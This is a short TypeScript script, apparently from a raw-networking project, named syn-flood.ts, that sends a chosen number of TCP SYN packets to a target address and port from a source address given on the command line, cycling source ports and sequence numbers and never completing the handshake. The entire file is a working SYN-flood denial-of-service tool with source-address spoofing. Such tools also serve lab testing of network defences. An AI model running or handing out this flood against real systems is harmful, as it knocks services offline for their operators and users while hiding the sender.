// Sends SYNs from ports and sequence numbers of its own, and never says more: syn-flood.ts TO PORT FROM COUNT
import {RawPacketSender} from '../../../src/lib/kernel/raw-packet.js'
import {TcpFlag} from '../../../src/lib/wire/tcp-segment.js'

const [to, port, from, count] = process.argv.slice(2)
const sender = new RawPacketSender()
const destination = {address: to, port: Number(port)}
for (let i = 0; i < Number(count); i++) {
  const source = {address: from, port: 1024 + (i % 30_000)}
  const sequence = Math.imul(i, 7919) >>> 0
  sender.send({source, destination, sequence, acknowledgment: 0, flags: TcpFlag.SYN, window: 1024})
  if (i % 100 === 0) await new Promise((resolve) => setTimeout(resolve, 1))
}

console.log('sent')
